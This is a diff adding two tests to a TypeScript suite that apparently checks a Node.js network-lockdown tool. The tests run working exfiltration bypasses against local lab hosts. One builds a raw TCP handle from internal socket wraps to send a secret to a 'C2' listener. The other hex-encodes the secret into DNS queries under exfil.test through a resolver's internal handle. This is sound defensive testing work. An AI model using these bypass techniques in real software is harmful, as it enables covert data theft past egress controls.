@@ -383,6 +383,99 @@ describe('class 2: other names of the same function', { concurrency: false }, ()
     assert.ok(lab.c2.captured.includes(SECRET));
   });
 
+  test("a raw TCP handle built from a socket's own _handle (class and request wraps taken from a legitimate connection): refused, the C2 gets 0 bytes; positive control", async () => {
+    type Handle = { connect(req: unknown, address: string, port: number): number; writeUtf8String(req: unknown, text: string): number; close(): void };
+    const attack = async (): Promise<number> => {
+      const legit = net.connect(lab.origin.port, '127.0.0.1');
+      legit.on('error', () => undefined);
+      const TCP = (legit as unknown as { _handle: { constructor: new (type: number) => Handle } })._handle.constructor;
+      const proto = TCP.prototype as unknown as Record<string, (...args: unknown[]) => number>;
+      let ConnectWrap: (new () => { oncomplete?: (status: number) => void }) | undefined;
+      let WriteWrap: (new () => Record<string, unknown>) | undefined;
+      const { connect, writeUtf8String } = proto;
+      proto.connect = function (this: unknown, req: unknown, ...rest: unknown[]) {
+        ConnectWrap ??= (req as { constructor: typeof ConnectWrap }).constructor;
+        return Reflect.apply(connect!, this, [req, ...rest]);
+      };
+      proto.writeUtf8String = function (this: unknown, req: unknown, ...rest: unknown[]) {
+        WriteWrap ??= (req as { constructor: typeof WriteWrap }).constructor;
+        return Reflect.apply(writeUtf8String!, this, [req, ...rest]);
+      };
+      try {
+        await new Promise((resolve) => legit.once('connect', resolve));
+        await new Promise((resolve) => legit.write('x', resolve));
+      } finally {
+        proto.connect = connect!;
+        proto.writeUtf8String = writeUtf8String!;
+        legit.destroy();
+      }
+      const handle = new TCP(0);
+      const request = new ConnectWrap!();
+      request.oncomplete = (status) => {
+        if (status !== 0) return handle.close();
+        const write = new WriteWrap!();
+        Object.assign(write, { handle, async: false, oncomplete: () => handle.close() });
+        handle.writeUtf8String(write, SECRET);
+      };
+      return handle.connect(request, '127.0.0.2', lab.c2.port);
+    };
+    lab.reset();
+    const refused = await underLockdown(policy(), [], async (handle) => {
+      const status = await attack();
+      assert.equal(handle.findings().find((f) => f.key === 'raw-binding:handle.connect')?.severity, 'high');
+      return status;
+    });
+    assert.ok(refused < 0, `the raw connect returned ${refused}`);
+    await settle(150);
+    assert.equal(lab.c2.connections, 0);
+    assert.equal(await attack(), 0);
+    await settle(150);
+    assert.ok(lab.c2.captured.includes(SECRET), `the C2 got ${lab.c2.applicationBytes} bytes`);
+  });
+
+  test("a raw resolver query through a dns.Resolver's own _handle (request wrap taken from a legitimate query): refused, 0 datagrams; positive control", async () => {
+    const server = dgram.createSocket('udp4');
+    const queries: Buffer[] = [];
+    server.on('message', (message) => queries.push(message));
+    await new Promise<void>((resolve) => server.bind(0, '127.0.0.2', resolve));
+    const name = `${Buffer.from(SECRET).toString('hex')}.exfil.test`;
+    const attack = async (): Promise<string> => {
+      const resolver = new dns.Resolver({ timeout: 200, tries: 1 });
+      resolver.setServers([`127.0.0.2:${server.address().port}`]);
+      const channel = (resolver as unknown as { _handle: Record<string, (...args: unknown[]) => number> })._handle;
+      const proto = Object.getPrototypeOf(channel) as Record<string, (...args: unknown[]) => number>;
+      const queryA = proto.queryA!;
+      let QueryWrap: (new () => Record<string, unknown>) | undefined;
+      proto.queryA = function (this: unknown, req: unknown, ...rest: unknown[]) {
+        QueryWrap ??= (req as { constructor: typeof QueryWrap }).constructor;
+        return Reflect.apply(queryA, this, [req, ...rest]);
+      };
+      try {
+        await new Promise((resolve) => resolver.resolve4('127.0.0.1', resolve));
+      } finally {
+        proto.queryA = queryA;
+      }
+      const request = new QueryWrap!();
+      request.oncomplete = () => undefined;
+      try {
+        return String(channel.queryA!(request, name));
+      } catch (error) {
+        return (error as NodeJS.ErrnoException).code ?? String(error);
+      } finally {
+        await settle(300);
+        resolver.cancel();
+      }
+    };
+    try {
+      assert.equal(await underLockdown(lab.policy, [], attack), 'ERR_HOST_NOT_ALLOWED');
+      assert.equal(queries.filter((query) => query.toString('latin1').includes(name.slice(0, 40))).length, 0);
+      await attack();
+      assert.ok(queries.some((query) => query.toString('latin1').includes(name.slice(0, 40))), `${queries.length} queries`);
+    } finally {
+      server.close();
+    }
+  });
+
   test('every dns resolving method of this Node (resolveTlsa on 24 too, dns/promises, Resolver) refuses an unlisted name: 0 queries reach the name server', async () => {
     const server = dgram.createSocket('udp4');
     const queries: Buffer[] = [];
